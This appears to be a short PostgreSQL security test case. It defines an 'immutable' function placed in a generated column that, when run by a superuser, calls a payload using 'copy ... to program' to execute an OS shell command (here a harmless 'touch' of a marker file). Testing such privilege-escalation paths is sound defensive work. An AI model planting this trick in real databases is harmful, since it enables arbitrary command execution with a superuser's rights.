-- tries: a generated column whose function runs where the table is made
-- ends: SUCCEEDED|42501
-- leaves: anything
create function payload() returns int language plpgsql as $$ begin execute 'copy (select 1) to program ''touch ${FILE}'''; return 1; end $$;
create function evil() returns int immutable language plpgsql as $$
begin if current_setting('is_superuser') = 'on' then perform public.payload(); end if; return 1; end $$;
create table t (x int, y int generated always as (x + evil()) stored);
